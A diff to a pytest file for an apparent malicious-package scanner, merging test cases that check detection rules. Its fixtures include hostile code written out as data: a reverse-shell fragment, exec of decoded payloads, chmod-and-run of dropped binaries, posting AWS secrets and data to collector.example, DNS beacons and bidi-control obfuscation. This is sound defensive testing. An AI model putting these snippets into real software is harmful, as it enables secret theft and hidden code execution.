@@ -265,6 +265,25 @@ def test_shipped_ruleset_is_valid():
     assert sum(rule.scope == "added" for rule in rules) > len(rules) // 2
 
 
+REFLECTIVE_AND_DECODED_COMMANDS = [
+    ("index.js", "const h = Reflect.get(os, 'hostname')();", "mp.exec.js-reflect-core"),
+    (
+        "index.js",
+        "Object.getOwnPropertyDescriptor(child_process, 'exec').value('id');",
+        "mp.exec.js-reflect-core",
+    ),
+    ("index.js", "os[Object.keys(os).find(k => k === 'userInfo')]();", "mp.exec.js-reflect-core"),
+    (
+        "index.js",
+        "Object.entries(os).filter(([k]) => k === 'hostname')[0][1]();",
+        "mp.exec.js-reflect-core",
+    ),
+    ("index.js", "os['host' + 'name']();", "mp.exec.js-reflect-core"),
+    ("pkg/a.py", 'os.system(base64.b64decode("aWQ="))', "mp.exec.decoded-process"),
+    ("main.go", "c := exec.Command(string(decoded))", "mp.exec.decoded-process"),
+]
+
+
 @pytest.mark.parametrize(
     ("path", "body", "rule"),
     [
@@ -292,13 +311,52 @@ def test_shipped_ruleset_is_valid():
             "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((HOST, 4444))\nos.dup2(s.fileno(), 0)",
             "mp.exec.reverse-shell",
         ),
-    ],
+    ]
+    + REFLECTIVE_AND_DECODED_COMMANDS,
 )
 def test_guarddog_family_techniques_block_alone(path, body, rule):
-    """Indirect API calls, download-and-chmod, stego exec and process injection each block alone."""
+    """Indirect API calls, download-and-chmod, stego exec, process injection, Node core APIs reached by
+    reflection and commands run straight from decoded bytes each block alone."""
     result = run_precheck(new_file(path, body), POLICY)
     assert result.verdict == "harmful"
     assert rule in {e.rule_id for e in result.evidence}
+
+
+DECODED_EXEC_AND_EXFIL = [
+    ("pkg/a.py", "exec(decode(blob))", "mp.exec.decoded-name"),
+    ("pkg/a.py", "eval(decryptedSource)", "mp.exec.decoded-name"),
+    ("main.go", 'os.Chmod("/tmp/agent", 0755)\nexec.Command("/tmp/agent").Run()', "mp.exec.chmod-run"),
+    ("pkg/run.py", "os.chmod(path, 0o755)\nsubprocess.Popen([path])", "mp.exec.chmod-run"),
+    (
+        "main.go",
+        'f, _ := os.OpenFile("/tmp/agent", os.O_CREATE|os.O_WRONLY, 0755)\nio.Copy(f, resp.Body)',
+        "mp.exec.go-save-download",
+    ),
+    (
+        "main.go",
+        'cmd := &exec.Cmd{Path: sh, Args: []string{sh, "-c", string(sDec)}}',
+        "mp.exec.go-decoded-cmd",
+    ),
+    (
+        "lib/pkg.rb",
+        "HTTParty.post(URL, body: ENV['AWS_SECRET_ACCESS_KEY'])",
+        "mp.exfil.secret-post-ruby-go",
+    ),
+    (
+        "main.go",
+        'http.Post("http://collector.example/x", "text/plain", body)',
+        "mp.exfil.secret-post-ruby-go",
+    ),
+    ("pkg/a.py", 'socket.gethostbyname_ex(f"{user}.collector.example")', "mp.beacon.dns-interpolated"),
+    ("pkg/a.py", 'dns_resolver.resolve(f"{data}.collector.example", "A")', "mp.beacon.dns-interpolated"),
+    ("main.go", 'net.LookupHost(encoded + ".collector.example")', "mp.beacon.dns-interpolated"),
+    ("pkg/a.py", "total = 1\u202e + 2", "mp.obfuscation.bidi-control"),
+    (
+        "src/a.js",
+        "if (isAdmin) {\u2067 /* end of check */ \u2069 return; }",
+        "mp.obfuscation.bidi-control",
+    ),
+]
 
 
 @pytest.mark.parametrize(
@@ -335,10 +393,12 @@ def test_guarddog_family_techniques_block_alone(path, body, rule):
             "BLOB = base64.b64decode(BLOB)\nif ready:\n    exec(BLOB)",
             "mp.exec.decoded-variable",
         ),
-    ],
+    ]
+    + DECODED_EXEC_AND_EXFIL,
 )
 def test_guarddog_family_signals_make_the_rules_detector_vote(path, body, rule):
-    """Hidden processes, LOLBAS proxies, shady links and obfuscation idioms reach the voting threshold."""
+    """Hidden processes, LOLBAS proxies, shady links, obfuscation idioms, exec of decoded values,
+    chmod-and-run, secrets posted from Ruby/Go, DNS labels and bidi controls reach the voting threshold."""
     result = run_precheck(new_file(path, body), POLICY)
     assert rule in {e.rule_id for e in result.evidence}
     assert result.score >= 0.5 * POLICY.precheck.block_score
@@ -419,78 +479,6 @@ def test_ip_urls_in_doctests_comments_or_private_ranges_are_no_vote(body):
     assert not {"mp.exfil.ip-request", "mp.beacon.raw-ip", "mp.beacon.public-ip"} & {
         e.rule_id for e in result.evidence
     }
-
-
-@pytest.mark.parametrize(
-    ("path", "body", "rule"),
-    [
-        ("index.js", "const h = Reflect.get(os, 'hostname')();", "mp.exec.js-reflect-core"),
-        (
-            "index.js",
-            "Object.getOwnPropertyDescriptor(child_process, 'exec').value('id');",
-            "mp.exec.js-reflect-core",
-        ),
-        ("index.js", "os[Object.keys(os).find(k => k === 'userInfo')]();", "mp.exec.js-reflect-core"),
-        (
-            "index.js",
-            "Object.entries(os).filter(([k]) => k === 'hostname')[0][1]();",
-            "mp.exec.js-reflect-core",
-        ),
-        ("index.js", "os['host' + 'name']();", "mp.exec.js-reflect-core"),
-        ("pkg/a.py", 'os.system(base64.b64decode("aWQ="))', "mp.exec.decoded-process"),
-        ("main.go", "c := exec.Command(string(decoded))", "mp.exec.decoded-process"),
-    ],
-)
-def test_reflective_core_calls_and_decoded_commands_block_alone(path, body, rule):
-    """Node core APIs reached by reflection and commands run straight from decoded bytes block alone."""
-    result = run_precheck(new_file(path, body), POLICY)
-    assert result.verdict == "harmful"
-    assert rule in {e.rule_id for e in result.evidence}
-
-
-@pytest.mark.parametrize(
-    ("path", "body", "rule"),
-    [
-        ("pkg/a.py", "exec(decode(blob))", "mp.exec.decoded-name"),
-        ("pkg/a.py", "eval(decryptedSource)", "mp.exec.decoded-name"),
-        ("main.go", 'os.Chmod("/tmp/agent", 0755)\nexec.Command("/tmp/agent").Run()', "mp.exec.chmod-run"),
-        ("pkg/run.py", "os.chmod(path, 0o755)\nsubprocess.Popen([path])", "mp.exec.chmod-run"),
-        (
-            "main.go",
-            'f, _ := os.OpenFile("/tmp/agent", os.O_CREATE|os.O_WRONLY, 0755)\nio.Copy(f, resp.Body)',
-            "mp.exec.go-save-download",
-        ),
-        (
-            "main.go",
-            'cmd := &exec.Cmd{Path: sh, Args: []string{sh, "-c", string(sDec)}}',
-            "mp.exec.go-decoded-cmd",
-        ),
-        (
-            "lib/pkg.rb",
-            "HTTParty.post(URL, body: ENV['AWS_SECRET_ACCESS_KEY'])",
-            "mp.exfil.secret-post-ruby-go",
-        ),
-        (
-            "main.go",
-            'http.Post("http://collector.example/x", "text/plain", body)',
-            "mp.exfil.secret-post-ruby-go",
-        ),
-        ("pkg/a.py", 'socket.gethostbyname_ex(f"{user}.collector.example")', "mp.beacon.dns-interpolated"),
-        ("pkg/a.py", 'dns_resolver.resolve(f"{data}.collector.example", "A")', "mp.beacon.dns-interpolated"),
-        ("main.go", 'net.LookupHost(encoded + ".collector.example")', "mp.beacon.dns-interpolated"),
-        ("pkg/a.py", "total = 1\u202e + 2", "mp.obfuscation.bidi-control"),
-        (
-            "src/a.js",
-            "if (isAdmin) {\u2067 /* end of check */ \u2069 return; }",
-            "mp.obfuscation.bidi-control",
-        ),
-    ],
-)
-def test_decoded_exec_dropped_binaries_and_exfil_make_the_rules_detector_vote(path, body, rule):
-    """exec of decoded values, chmod-and-run, secrets posted from Ruby/Go, DNS labels and bidi controls vote."""
-    result = run_precheck(new_file(path, body), POLICY)
-    assert rule in {e.rule_id for e in result.evidence}
-    assert result.score >= 0.5 * POLICY.precheck.block_score
 
 
 @pytest.mark.parametrize(
